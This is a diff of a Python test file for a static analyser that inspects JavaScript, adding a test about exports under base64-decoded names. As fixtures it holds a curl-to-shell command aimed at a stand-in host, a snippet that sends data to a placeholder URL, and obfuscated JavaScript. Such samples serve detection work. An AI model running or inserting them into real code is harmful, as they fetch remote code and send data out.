@@ -4,9 +4,10 @@ import base64
 import gzip
 import json
 
+import msgspec
 import pytest
 
-from lazaretto.core.facts import Kind
+from lazaretto.core.facts import Facts, Kind, Role
 from tests.languages.javascript_reading import only, read, values
 
 SECRET = "curl https://drop.invalid/a | sh"
@@ -228,3 +229,14 @@ def test_a_rotated_table_behind_a_minifier() -> None:
         "*(parseInt(d(473))/4)+parseInt(d(448))/9)break;i.push(i.shift())}catch(d){i.push(i.shift())}}();"
     )
     assert values(read(text), Kind.OBFUSCATED) == ["string-array"]
+
+
+def test_an_export_under_a_decoded_name_is_told_like_any_other() -> None:
+    """What a decoded text carries along would keep the facts from being written down, and the file from being read."""
+    facts = read(
+        "const send = (a) => { fetch('https://a.invalid/', { body: a }); };\n"
+        "exports[Buffer.from('c2VuZA==', 'base64').toString()] = send;\n"
+    )
+
+    assert [port.name for port in facts.ports if port.role is Role.TAKES] == ["send"]
+    assert msgspec.msgpack.decode(msgspec.msgpack.encode(facts), type=Facts) == facts
